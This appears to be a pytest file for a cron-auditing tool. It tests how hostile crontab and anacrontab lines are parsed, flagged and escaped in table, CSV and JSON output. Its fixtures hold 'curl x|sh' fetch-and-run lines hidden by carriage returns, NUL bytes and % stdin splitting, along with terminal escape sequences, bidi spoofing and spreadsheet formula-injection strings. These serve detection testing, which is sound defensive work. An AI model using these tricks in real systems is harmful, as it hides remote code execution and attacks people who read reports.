"""Hostile cron, anacron and output inputs of reference/reliability.md §3.2 (C01–C19) and §3.6
(O01–O03, O05, O06), with the exact bytes of the reference and the expected results.

Every case also holds the universal expectation of §3: the audit ends, the problem is a finding or
an issue with its path and line, and the rest of the file is still read. Where cronie and Debian
cron disagree, both are asserted (the image's /etc/os-release picks the daemon).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from schedwarden.analyzers.cron_hygiene import RULES as CRON_RULES
from schedwarden.collectors.linux.cron_syntax import MAX_COMMAND, parse_env_line
from schedwarden.model import AuditReport, CronSchedule, ExecAction, Mechanism, ScheduledJob
from schedwarden.outputs.registry import WRITERS
from tests.conftest import RHEL_OS_RELEASE, FileSpec, MakeRoot
from tests.conftest import run_audit as _run_audit

# ---------------------------------------------------------------------------------------------
# helpers


def run_audit(root: Path) -> AuditReport:
    """The audit, with the findings of the cron rules these cases are about (the Sigma pack
    also flags most of these lines: `* * * * *`, `curl x|sh`; tests/rules covers it)."""
    report = _run_audit(root)
    return replace(report, findings=tuple(f for f in report.findings if f.rule_id in CRON_RULES))


def _audit(
    make_root: MakeRoot,
    files: Mapping[str, FileSpec],
    *,
    rhel: bool = False,
    name: str = "root",
) -> AuditReport:
    if rhel:
        return run_audit(make_root(files, os_release=RHEL_OS_RELEASE, name=name))
    return run_audit(make_root(files, name=name))


def _cron_jobs(report: AuditReport) -> list[ScheduledJob]:
    return [j for j in report.jobs if j.mechanism is Mechanism.CRON]


def _action(job: ScheduledJob) -> ExecAction:
    [action] = job.actions
    assert isinstance(action, ExecAction)
    return action


def _issues(report: AuditReport) -> list[tuple[str, str, int | None]]:
    return [(i.code, i.evidence.path, i.evidence.line) for i in report.issues]


def _rules(report: AuditReport) -> list[tuple[str, int | None]]:
    return sorted((f.rule_id, f.evidence.line) for f in report.findings)


def _render(report: AuditReport, fmt: str, *, color: bool = False) -> str:
    stream = io.StringIO()
    WRITERS[fmt](report, stream, color=color)
    return stream.getvalue()


# Characters that must never reach a terminal or a spreadsheet raw from evidence (§3.6, §7.5):
# C0 controls but tab and newline (the writers' own layout), DEL, C1 controls, bidi and
# zero-width controls, line/paragraph separators, BOM, undecodable bytes (surrogate escapes).
_RAW_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)
_SGR = re.compile("\x1b\\[[0-9;]*m")  # rich's own colour codes, when colour is on


def _raw_unsafe(text: str) -> list[str]:
    return sorted({hex(ord(c)) for c in _RAW_UNSAFE.findall(text)})


# ---------------------------------------------------------------------------------------------
# C01–C04: line ends, NUL, missing final newline


def test_c01_crlf_keeps_cr_in_command(make_root: MakeRoot) -> None:
    report = _audit(make_root, {"etc/cron.d/x": b"*/5 * * * * root /usr/bin/id\r\n"})
    [job] = _cron_jobs(report)
    assert _action(job).command_line == "/usr/bin/id\r"
    assert job.hidden is True
    assert report.issues == ()
    assert _rules(report) == [("CR_IN_COMMAND", 1)]
    [finding] = report.findings
    assert finding.job_id == job.job_id
    assert "/usr/bin/id\r" in finding.message
    assert "ends in a carriage return" in finding.message
    table = _render(report, "table")
    assert "/usr/bin/id\\x0d" in table
    assert "\r" not in table


def test_c02_cr_mid_line_is_one_entry_and_cannot_spoof_the_display(make_root: MakeRoot) -> None:
    report = _audit(
        make_root, {"etc/cron.d/x": b"* * * * * root /bin/true\r* * * * * root curl x|sh\n"}
    )
    [job] = _cron_jobs(report)  # cron semantics: only \n ends a line
    assert _action(job).command_line == "/bin/true\r* * * * * root curl x|sh"
    assert job.run_as == "root"
    assert job.evidence.line == 1
    assert report.issues == ()
    assert _rules(report) == [("CR_IN_COMMAND", 1)]
    message = report.findings[0].message
    assert "a terminal shows only '* * * * * root curl x|sh'" in message
    assert "cron runs '/bin/true'" in message
    for fmt in ("table", "csv"):
        text = _render(report, fmt)
        assert "\r" not in text
        assert "/bin/true\\x0d* * * * * root curl x|sh" in text


def test_c03_nul_ends_the_command_and_the_remainder_is_read_as_a_new_entry(
    make_root: MakeRoot,
) -> None:
    """§2 (verify): cronie's get_string stops at NUL and reading resumes after it."""
    data = b"* * * * * root /bin/true\x00; curl x|sh\n"
    for rhel in (False, True):
        report = _audit(make_root, {"etc/cron.d/x": data}, rhel=rhel, name=f"r{rhel}")
        [job] = _cron_jobs(report)
        # Interpretation 1: the command the daemon stores, cut at the NUL.
        assert _action(job).command_line == "/bin/true"
        assert job.extra["after_nul"] == "; curl x|sh"
        assert job.hidden is True
        # Interpretation 2: what follows the NUL, read as the next entry (rejected: bad minute).
        assert _issues(report) == [("PARSE_ERROR", "/etc/cron.d/x", 1)]
        assert "bad minute: ';'" in report.issues[0].message
        assert _rules(report) == [("NUL_BYTE", 1)]
        assert "'; curl x|sh'" in report.findings[0].message
        # Debian ignores a file with a syntax error; cronie loads the good entry.
        assert job.effective.runs is rhel


def test_c03_a_valid_entry_after_nul_becomes_a_second_job(make_root: MakeRoot) -> None:
    data = b"* * * * * root /bin/true\x00* * * * * root curl x|sh\n"
    report = _audit(make_root, {"etc/cron.d/x": data}, rhel=True)
    first, second = _cron_jobs(report)
    assert (_action(first).command_line, _action(second).command_line) == (
        "/bin/true",
        "curl x|sh",
    )
    assert first.evidence.line == second.evidence.line == 1
    assert second.evidence.offset == len(b"* * * * * root /bin/true\x00")
    assert first.job_id != second.job_id
    assert report.issues == ()
    assert _rules(report) == [("NUL_BYTE", 1)]


def test_c04_entry_without_final_newline_is_reported_inactive(make_root: MakeRoot) -> None:
    data = b"0 1 * * * root /bin/ok\n* * * * * root /tmp/x"
    for rhel in (False, True):
        report = _audit(make_root, {"etc/cron.d/x": data}, rhel=rhel, name=f"r{rhel}")
        ok, last = _cron_jobs(report)
        assert ok.effective.runs is True
        assert _action(last).command_line == "/tmp/x"
        assert last.evidence.line == 2
        assert last.effective.runs is False
        assert "without a newline before end of file" in last.effective.reason
        assert report.issues == ()


# ---------------------------------------------------------------------------------------------
# C05–C07: size and encoding


def test_c05_command_longer_than_max_command_is_flagged(make_root: MakeRoot) -> None:
    prefix = b"/bin/echo "
    command = prefix + b"A" * (131_073 - len(prefix))
    assert len(command) == 131_073
    report = _audit(make_root, {"etc/cron.d/x": b"* * * * * root " + command + b"\n"})
    [job] = _cron_jobs(report)
    assert _action(job).command_line == command.decode()  # kept whole; cron cuts it
    assert job.extra["overlong_command"] is True
    assert report.issues == ()
    assert _rules(report) == [("CRON_COMMAND_OVERLONG", 1)]
    assert str(MAX_COMMAND) in report.findings[0].message
    assert len(job.raw) < 5000  # the raw excerpt is size-capped


def test_c05_command_just_under_the_limit_is_not_flagged(make_root: MakeRoot) -> None:
    command = b"/bin/echo " + b"A" * (MAX_COMMAND - 1 - len(b"/bin/echo "))
    report = _audit(make_root, {"etc/cron.d/x": b"* * * * * root " + command + b"\n"})
    [job] = _cron_jobs(report)
    assert "overlong_command" not in job.extra
    assert report.findings == ()


def test_c07_invalid_utf8_is_kept_and_shown_escaped(make_root: MakeRoot) -> None:
    data = b"* * * * * root /bin/echo \xc3\x28 \xc0\xaf \xed\xa0\x80\n"
    report = _audit(make_root, {"etc/cron.d/x": data})
    [job] = _cron_jobs(report)
    command = _action(job).command_line
    # The bytes survive the round trip exactly.
    assert command.encode("utf-8", "surrogateescape") == data[15:-1]
    assert report.issues == ()
    shown = "/bin/echo \\xc3( \\xc0\\xaf \\xed\\xa0\\x80"
    for fmt in ("table", "csv"):
        assert shown in _render(report, fmt)
    document = json.loads(_render(report, "json"))
    assert document["jobs"][0]["actions"][0]["command_line"] == shown


# ---------------------------------------------------------------------------------------------
# C08–C09: time fields and macros


C08_LINES = (
    ("61 * * * * root c", "minute"),
    ("* 24 * * * root c", "hour"),
    ("0 0 32 * * root c", "day-of-month"),
    ("0 0 * 13 * root c", "month"),
    ("0 0 * * 8 root c", "day-of-week"),
    ("5-1 * * * * root c", "minute"),
    ("*/0 * * * * root c", "minute"),
    ("1,,2 * * * * root c", "minute"),
)


def test_c08_one_parse_error_per_bad_line_and_the_rest_is_read(make_root: MakeRoot) -> None:
    text = "".join(line + "\n" for line, _ in C08_LINES) + "0 0 * * * root /bin/good\n"
    report = _audit(make_root, {"etc/cron.d/x": text}, rhel=True)
    assert _issues(report) == [("PARSE_ERROR", "/etc/cron.d/x", n) for n in range(1, 9)]
    for issue, (_, field) in zip(report.issues, C08_LINES, strict=True):
        assert f"bad {field}:" in issue.message
        assert f"(field {field})" in issue.message
    [job] = _cron_jobs(report)
    assert _action(job).command_line == "/bin/good"
    assert job.evidence.line == 9
    assert job.effective.runs is True  # cronie: a bad entry is skipped, the rest loads


def test_c08_debian_ignores_the_whole_file(make_root: MakeRoot) -> None:
    text = "".join(line + "\n" for line, _ in C08_LINES) + "0 0 * * * root /bin/good\n"
    report = _audit(make_root, {"etc/cron.d/x": text})
    assert len(report.issues) == 8
    [job] = _cron_jobs(report)
    assert job.effective.runs is False
    assert "syntax error on line 1" in job.effective.reason


def test_c08_field_quirks_of_the_daemons(make_root: MakeRoot) -> None:
    """cronie entry.c: after a `*` without `/`, get_list skips the rest of the field
    (`*x` is `*`); a `*` where the user or command should start is "bad command" (the six-star
    typo); `-` must be followed by the minute, not a blank."""
    text = (
        "*x * * * * root /tmp/star-junk\n"
        "*/5x * * * * root /tmp/step-junk\n"
        "* * * * * * root /tmp/six-stars\n"
        "- * * * * * root /tmp/dash-blank\n"
    )
    report = _audit(make_root, {"etc/cron.d/x": text}, rhel=True)
    [job] = _cron_jobs(report)
    assert _action(job).command_line == "/tmp/star-junk"
    assert job.effective.runs is True
    assert job.schedule.kind == "cron"
    messages = {i.evidence.line or 0: i.message for i in report.issues}
    assert sorted(messages) == [2, 3, 4]
    assert "bad minute: '*/5x'" in messages[2]
    assert "bad command" in messages[3]
    assert "bad minute" in messages[4]

    user = _audit(
        make_root,
        {"var/spool/cron/alice": ("* * * * * * /tmp/six-stars\n", 0o600)},
        rhel=True,
        name="user",
    )
    assert _cron_jobs(user) == []
    assert [(i.code, i.evidence.line) for i in user.issues] == [("PARSE_ERROR", 1)]


def test_c09_macros_are_case_sensitive_and_need_a_command(make_root: MakeRoot) -> None:
    for system in (True, False):
        prefix = "root " if system else ""
        text = (
            f"@reboot {prefix}c\n@annually {prefix}c\n@midnight {prefix}c\n"
            f"@Daily {prefix}c\n@every_minute {prefix}c\n@daily\n"
        )
        path = "etc/cron.d/x" if system else "var/spool/cron/alice"
        report = _audit(make_root, {path: (text, 0o600)}, rhel=True, name=f"s{system}")
        jobs = _cron_jobs(report)
        assert [j.schedule.kind for j in jobs] == ["macro"] * 3
        assert [getattr(j.schedule, "macro", None) for j in jobs] == [
            "@reboot",
            "@annually",
            "@midnight",
        ]
        assert all(j.effective.runs for j in jobs)
        assert [(i.code, i.evidence.line) for i in report.issues] == [
            ("PARSE_ERROR", 4),
            ("PARSE_ERROR", 5),
            ("PARSE_ERROR", 6),
        ]
        bad_daily, bad_every, no_command = (i.message for i in report.issues)
        assert "bad time specifier: '@Daily'" in bad_daily
        assert "bad time specifier: '@every_minute'" in bad_every
        assert "missing command" in no_command


# ---------------------------------------------------------------------------------------------
# C10–C12: stdin, silenced logging, environment


def test_c10_percent_splits_stdin_and_escaped_percent_is_literal(make_root: MakeRoot) -> None:
    text = b"* * * * * root sh%curl -s x|sh%\n* * * * * root echo 100\\%\n"
    report = _audit(make_root, {"etc/cron.d/x": text})
    payload, literal = _cron_jobs(report)
    assert (_action(payload).command_line, _action(payload).stdin) == ("sh", "curl -s x|sh\n")
    assert payload.extra["command_raw"] == "sh%curl -s x|sh%"
    assert (_action(literal).command_line, _action(literal).stdin) == ("echo 100%", None)
    assert report.issues == ()
    assert _rules(report) == [("PAYLOAD_IN_STDIN", 1)]
    [finding] = report.findings
    assert finding.severity.value == "high"  # sh runs its stdin as code
    assert finding.job_id == payload.job_id
    assert "curl -s x|sh\n" in finding.message


def test_c11_leading_dash_suppresses_logging(make_root: MakeRoot) -> None:
    text = b"-* * * * * root /tmp/x\n"
    rhel = _audit(make_root, {"etc/crontab": text}, rhel=True, name="rhel")
    [job] = _cron_jobs(rhel)
    assert _action(job).command_line == "/tmp/x"
    assert job.extra["no_log"] is True
    assert job.effective.runs is True
    assert rhel.issues == ()
    assert _rules(rhel) == [("CRON_LOGGING_SUPPRESSED", 1)]
    assert rhel.findings[0].severity.value == "high"
    # Debian cron does not know '-': the whole file is a syntax error there, the finding stays.
    debian = _audit(make_root, {"etc/crontab": text}, name="debian")
    [job] = _cron_jobs(debian)
    assert job.effective.runs is False
    assert "starts with '-'" in job.effective.reason
    assert _rules(debian) == [("CRON_LOGGING_SUPPRESSED", 1)]
    assert debian.findings[0].severity.value == "medium"  # one level lower: dormant


def test_c12_environment_lines_apply_to_later_entries(make_root: MakeRoot) -> None:
    text = (
        "0 0 * * * root /bin/before\n"
        'SHELL=/tmp/.x\nBASH_ENV=/tmp/.rc\nPATH=/tmp:/usr/bin\nMAILTO=""\n'
        "CRON_TZ=Mars/Olympus\n"
        "0 1 * * * root job\n"
    )
    report = _audit(make_root, {"etc/cron.d/x": text}, rhel=True)
    before, job = _cron_jobs(report)
    assert before.environment == ()
    assert job.environment == (
        ("SHELL", "/tmp/.x"),
        ("BASH_ENV", "/tmp/.rc"),
        ("PATH", "/tmp:/usr/bin"),
        ("MAILTO", ""),
        ("CRON_TZ", "Mars/Olympus"),
    )
    assert _action(job).shell == "/tmp/.x"
    assert isinstance(job.schedule, CronSchedule)
    assert job.schedule.timezone is None  # an unknown zone is not used for next runs
    assert report.issues == ()
    assert _rules(report) == [
        ("CRON_ENV_SHELL", 7),
        ("CRON_ENV_STARTUP_FILE", 7),
        ("CRON_ENV_WRITABLE_PATH", 7),
        ("CRON_TZ_INVALID", 7),
    ]
    assert all(f.job_id == job.job_id for f in report.findings)


# ---------------------------------------------------------------------------------------------
# C13–C14: environment syntax and comments


def test_c13_env_lines_parse_as_cronie_load_env(make_root: MakeRoot) -> None:
    text = "FOO = \"a b\" \n'X'='y'\nA=\"unterminated\n0 1 * * * root job\n"
    report = _audit(make_root, {"etc/cron.d/x": text}, rhel=True)
    [job] = _cron_jobs(report)
    assert job.environment == (("FOO", "a b"), ("X", "y"))
    # The unterminated value is no assignment, so cron reads the line as an entry: an error.
    assert _issues(report) == [("PARSE_ERROR", "/etc/cron.d/x", 3)]
    assert "bad minute" in report.issues[0].message


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('FOO = "a b" ', ("FOO", "a b")),
        ("'X'='y'", ("X", "y")),
        ('A="unterminated', None),
        ("PATH=/bin\r", ("PATH", "/bin")),  # unquoted: trailing isspace() trimmed
        ("PATH=/bin\x1c", ("PATH", "/bin\x1c")),  # not C whitespace: kept
        ("MAILTO=", ("MAILTO", "")),
        ("MAILTO = ''", ("MAILTO", "")),
        ("'A=B'=c", None),  # '=' inside a quoted name: an error in load_env
        ('"A B"=c d ', ("A B", "c d")),
        ('X="a"b', None),  # text after a quoted value
        ("FOO BAR=1", None),
        ("  \tK\t=\tv", ("K", "v")),
        ("* * * * * root a=b", None),
    ],
)
def test_c13_load_env_state_machine(line: str, expected: tuple[str, str] | None) -> None:
    """Same results as cronie src/env.c load_env for the same line."""
    assert parse_env_line(line) == expected


def test_c14_only_a_leading_hash_starts_a_comment(make_root: MakeRoot) -> None:
    text = b"# * * * * * root evil\n \t# x\n* * * * * root c # not a comment\n"
    report = _audit(make_root, {"etc/cron.d/x": text})
    [job] = _cron_jobs(report)
    assert _action(job).command_line == "c # not a comment"
    assert job.evidence.line == 3
    assert report.issues == ()
    assert report.findings == ()


# ---------------------------------------------------------------------------------------------
# C15–C17: whole-file rejections


def test_c15_garbage_padding_rejects_a_user_crontab_on_cronie(make_root: MakeRoot) -> None:
    text = b"#\n" * 20_000 + b"0 1 * * * /bin/ok\n"
    assert len(text) - len(b"0 1 * * * /bin/ok\n") == 40_000
    report = _audit(make_root, {"var/spool/cron/alice": (text, 0o600)}, rhel=True)
    [job] = _cron_jobs(report)
    assert _action(job).command_line == "/bin/ok"
    assert job.evidence.line == 20_001
    assert job.effective.runs is False
    assert job.effective.reason.startswith("cronie refuses the whole file: too many garbage")
    assert report.issues == ()


def test_c16_too_many_entries_reject_a_user_crontab_on_cronie(make_root: MakeRoot) -> None:
    text = b"".join(b"%d 1 * * * /bin/ok%d\n" % (i % 60, i) for i in range(10_001))
    report = _audit(make_root, {"var/spool/cron/alice": (text, 0o600)}, rhel=True)
    jobs = _cron_jobs(report)
    assert len(jobs) == 10_001  # all parsed, every one reported
    assert len({j.job_id for j in jobs}) == 10_001
    assert all(j.effective.runs is False for j in jobs)
    assert "too many entries (10001 > 10000)" in jobs[0].effective.reason
    assert report.issues == ()
    # 10 000 entries exactly are still loaded.
    ok = _audit(
        make_root,
        {"var/spool/cron/alice": (b"".join(text.splitlines(keepends=True)[:10_000]), 0o600)},
        rhel=True,
        name="ok",
    )
    assert all(j.effective.runs for j in _cron_jobs(ok))


def test_c17_writable_cron_d_file_is_ignored_and_flagged(make_root: MakeRoot) -> None:
    root = make_root({"etc/cron.d/w": b"* * * * * root /bin/w\n"}, os_release=RHEL_OS_RELEASE)
    os.chown(root / "etc/cron.d/w", 1000, 1000)
    os.chmod(root / "etc/cron.d/w", 0o666)
    report = run_audit(root)
    [job] = _cron_jobs(report)
    assert job.effective.runs is False
    assert "BAD FILE MODE" in job.effective.reason
    assert (job.evidence.mode, job.evidence.owner, job.evidence.uid) == ("0666", "alice", 1000)
    [finding] = report.findings
    assert (finding.rule_id, finding.evidence.path, finding.job_id) == (
        "WRITABLE_CRON_FILE",
        "/etc/cron.d/w",
        None,
    )
    assert finding.severity.value == "high"
    assert "0666" in finding.message


def test_c17_hard_linked_user_crontab_is_ignored(make_root: MakeRoot) -> None:
    root = make_root(
        {"var/spool/cron/alice": (b"* * * * * /bin/a\n", 0o600)}, os_release=RHEL_OS_RELEASE
    )
    os.chown(root / "var/spool/cron/alice", 1000, 1000)
    os.link(root / "var/spool/cron/alice", root / "alice-second-link")
    report = run_audit(root)
    [job] = _cron_jobs(report)
    assert job.run_as == "alice"
    assert job.effective.runs is False
    assert job.effective.reason == "cronie refuses 2 hard links: BAD LINK COUNT"
    assert report.findings == ()  # mode 0600: not writable by others
    assert report.issues == ()


def test_c17_debian_wording(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "etc/cron.d/w": b"* * * * * root /bin/w\n",
            "var/spool/cron/crontabs/alice": (b"* * * * * /bin/a\n", 0o600),
        }
    )
    os.chown(root / "etc/cron.d/w", 1000, 1000)
    os.chmod(root / "etc/cron.d/w", 0o666)
    os.chown(root / "var/spool/cron/crontabs/alice", 1000, 1000)
    os.link(root / "var/spool/cron/crontabs/alice", root / "alice-second-link")
    report = run_audit(root)
    reasons = {j.evidence.path: j.effective.reason for j in _cron_jobs(report)}
    assert "INSECURE MODE (group/other writable)" in reasons["/etc/cron.d/w"]
    assert "NUMBER OF HARD LINKS > 1" in reasons["/var/spool/cron/crontabs/alice"]
    assert [f.rule_id for f in report.findings] == ["WRITABLE_CRON_FILE"]


# ---------------------------------------------------------------------------------------------
# C18: file names per daemon


C18_NAMES = (".hidden", "#x", "x~", "x.rpmsave", "x.dpkg-old", "job.sh")


def test_c18_names_have_an_effective_status_per_daemon(make_root: MakeRoot) -> None:
    files = {f"etc/cron.d/{n}": b"* * * * * root /bin/true\n" for n in C18_NAMES}
    debian = {
        j.evidence.path.rsplit("/", 1)[1]: j.effective
        for j in _cron_jobs(_audit(make_root, files, name="debian"))
    }
    rhel = {
        j.evidence.path.rsplit("/", 1)[1]: j.effective
        for j in _cron_jobs(_audit(make_root, files, rhel=True, name="rhel"))
    }
    # Never silently dropped: every file is reported on both.
    assert sorted(debian) == sorted(rhel) == sorted(C18_NAMES)
    for name in C18_NAMES:
        assert debian[name].runs is False
        assert debian[name].daemon == "debian-cron"
        assert "run-parts rule" in debian[name].reason
    assert {n: e.runs for n, e in rhel.items()} == {
        ".hidden": False,
        "#x": False,
        "x~": False,
        "x.rpmsave": False,
        "x.dpkg-old": True,
        "job.sh": True,
    }
    assert rhel[".hidden"].reason == "cronie skips names starting with '.'"
    assert rhel["#x"].reason == "cronie skips names starting with '#'"
    assert rhel["x~"].reason == "cronie skips names ending in '~'"
    assert rhel["x.rpmsave"].reason == "cronie skips names ending in '.rpmsave'"


# ---------------------------------------------------------------------------------------------
# C19: anacrontab


def test_c19_anacrontab_lines(make_root: MakeRoot) -> None:
    text = b"1 5 id c\n0x 5 id c\n@monthly 5 id c\n1 5\n7 5 id\n"
    report = _audit(make_root, {"etc/anacrontab": text}, rhel=True)
    jobs = [j for j in report.jobs if j.mechanism is Mechanism.ANACRON]
    assert [j.evidence.line for j in jobs] == [1, 3]
    assert [(j.schedule.kind, getattr(j.schedule, "period_days", None)) for j in jobs] == [
        ("interval", 1),
        ("interval", 30),
    ]
    assert [_action(j).command_line for j in jobs] == ["c", "c"]
    assert _issues(report) == [
        ("PARSE_ERROR", "/etc/anacrontab", 2),
        ("PARSE_ERROR", "/etc/anacrontab", 4),
        ("PARSE_ERROR", "/etc/anacrontab", 5),
    ]
    bad_period, missing_fields, missing_command = (i.message for i in report.issues)
    assert "invalid period '0x'" in bad_period
    assert "missing fields" in missing_fields
    assert "missing command" in missing_command


# ---------------------------------------------------------------------------------------------
# O01–O03, O05, O06: what the writers emit for hostile evidence


O_COMMANDS = (
    b"echo \x1b[2J\x1b[H ok",  # O01 erase screen, cursor home
    b"echo \x1b]52;c;ZXZpbA==\x07",  # O01 OSC 52 clipboard write
    b"echo \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\",  # O01 OSC 8 hyperlink
    b"echo \xc2\x9b2J",  # O01 C1 CSI (U+009B)
    "echo \u202eexe.txt \u2066x\u2069 \u200e".encode(),  # O02 bidi and marks
    b"legit\rEVIL",  # O03 carriage return
    b"a\bb",  # O03 backspace
    b'=HYPERLINK("http://x")',  # O05 formulas
    b"+cmd|' /C calc'!A0",
    b"@SUM(1)",
    b"-2+3",
    b"cat%\t=1+1",  # O05 a cell that starts with a tab (stdin keeps leading blanks)
    b"cat%\r=2+2",
    b"echo \xff\xfe \xed\xa0\x80",  # O06 invalid UTF-8, encoded surrogate
)


@pytest.fixture
def hostile_output_report(make_root: MakeRoot) -> AuditReport:
    table = b"".join(b"* * * * * root " + c + b"\n" for c in O_COMMANDS)
    files: dict[str, FileSpec] = {
        "etc/cron.d/x": table,
        "etc/cron.d/name\u202e\u2066bidi": b"* * * * * root /bin/true\n",  # O02 in a path
        "etc/cron.d/undecodable": b"* * * * * root /bin/true\n",
    }
    root = make_root(files, os_release=RHEL_OS_RELEASE)
    # O06: a file name that is not UTF-8 at all.
    os.rename(root / "etc/cron.d/undecodable", os.fsencode(root / "etc/cron.d") + b"/\xff\xfe.cron")
    return _run_audit(root)  # every analyzer: the escaping checks cover all their messages


def test_o_hostile_commands_are_all_collected(hostile_output_report: AuditReport) -> None:
    jobs = _cron_jobs(hostile_output_report)
    assert len(jobs) == len(O_COMMANDS) + 2
    commands = {_action(j).command_line.encode("utf-8", "surrogateescape") for j in jobs}
    # Jobs hold the evidence exactly; only the writers escape.
    assert {c for c in O_COMMANDS if b"%" not in c} <= commands
    paths = {j.evidence.path for j in jobs}
    assert "/etc/cron.d/\udcff\udcfe.cron" in paths
    assert "/etc/cron.d/name\u202e\u2066bidi" in paths


@pytest.mark.parametrize("color", [False, True])
def test_o01_o03_table_never_emits_raw_controls(
    hostile_output_report: AuditReport, color: bool
) -> None:
    text = _SGR.sub("", _render(hostile_output_report, "table", color=color))
    assert _raw_unsafe(text) == []
    if color:
        return  # a colour console folds to the terminal width; the text is checked without it
    for shown in (
        "echo \\x1b[2J\\x1b[H ok",
        "\\x1b]52;c;ZXZpbA==\\x07",
        "\\x1b]8;;http://x\\x1b\\link",
        "echo \\u009b2J",
        "\\u202eexe.txt \\u2066x\\u2069 \\u200e",
        "legit\\x0dEVIL",
        "a\\x08b",
        "/etc/cron.d/\\xff\\xfe.cron",
        "name\\u202e\\u2066bidi",
    ):
        assert shown in text, shown


def _csv_rows(report: AuditReport) -> list[dict[str, str]]:
    text = _render(report, "csv")
    assert _raw_unsafe(text) == []
    return list(csv.DictReader(io.StringIO(text)))


def test_o01_o03_csv_never_emits_raw_controls(hostile_output_report: AuditReport) -> None:
    commands = {row["command"] for row in _csv_rows(hostile_output_report) if row["type"] == "job"}
    assert "echo \\x1b[2J\\x1b[H ok" in commands
    assert "legit\\x0dEVIL" in commands
    assert "echo \\xff\\xfe \\xed\\xa0\\x80" in commands


def test_o05_csv_neutralises_formulas(hostile_output_report: AuditReport) -> None:
    rows = _csv_rows(hostile_output_report)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    commands = {row["command"] for row in rows if row["type"] == "job"}
    assert '\'=HYPERLINK("http://x")' in commands
    assert "'+cmd|' /C calc'!A0" in commands
    assert "'@SUM(1)" in commands
    assert "'-2+3" in commands
    stdins = {row["stdin"] for row in rows if row["type"] == "job"}
    assert "'\\x09=1+1" in stdins
    assert "'\\x0d=2+2" in stdins


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _strict_json(text: str) -> object:
    def no_constants(name: str) -> object:
        raise ValueError(f"non-standard JSON constant {name}")

    return json.loads(text, strict=True, parse_constant=no_constants)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_o06_json_is_strict_utf8_without_lone_surrogates(
    hostile_output_report: AuditReport, fmt: str
) -> None:
    text = _render(hostile_output_report, fmt)
    text.encode("utf-8")  # strict: a lone surrogate would raise here
    documents = (
        [_strict_json(text)]
        if fmt == "json"
        else [_strict_json(line) for line in text.splitlines() if line]
    )
    strings = [s for d in documents for s in _strings(d)]
    assert not [s for s in strings if re.search("[\ud800-\udfff]", s)]
    # Undecodable bytes appear as the documented visible form \xNN; valid text is kept exactly
    # (the JSON encoder escapes controls itself), so a consumer sees the real command.
    assert "echo \\xff\\xfe \\xed\\xa0\\x80" in strings
    assert "/etc/cron.d/\\xff\\xfe.cron" in strings
    assert "echo \x1b[2J\x1b[H ok" in strings
    assert "legit\rEVIL" in strings
    # ...while the serialized text itself carries no raw C0 control.
    assert not re.search("[\x00-\x09\x0b-\x1f]", text)


def test_o_findings_escape_evidence_in_messages(hostile_output_report: AuditReport) -> None:
    by_line = {
        f.evidence.line: f
        for f in hostile_output_report.findings
        if f.evidence.line and f.rule_id in CRON_RULES
    }
    cr = by_line[O_COMMANDS.index(b"legit\rEVIL") + 1]
    assert cr.rule_id == "CR_IN_COMMAND"
    assert "'EVIL'" in cr.message and "'legit'" in cr.message
    esc = [f for f in hostile_output_report.findings if f.rule_id == "ANSI_ESCAPE_IN_COMMAND"]
    assert len(esc) == 3
    # Messages quote the evidence exactly; every writer escapes them (the table and CSV tests
    # above render these same findings and find no raw control character).
    for finding in hostile_output_report.findings:
        for fmt in ("table", "csv"):
            rendered = _render(replace(hostile_output_report, findings=(finding,), jobs=()), fmt)
            assert _raw_unsafe(rendered) == [], (finding.rule_id, fmt)


def test_hostile_inputs_leave_no_unexpected_issue(hostile_output_report: AuditReport) -> None:
    assert hostile_output_report.issues == ()


def test_c19_every_anacron_job_has_its_own_id(make_root: MakeRoot) -> None:
    text = b"1 5 id c\n0x 5 id c\n@monthly 5 id c\n1 5\n7 5 id\n"
    report = _audit(make_root, {"etc/anacrontab": text}, rhel=True)
    ids = [j.job_id for j in report.jobs if j.mechanism is Mechanism.ANACRON]
    assert len(ids) == len(set(ids)) == 2
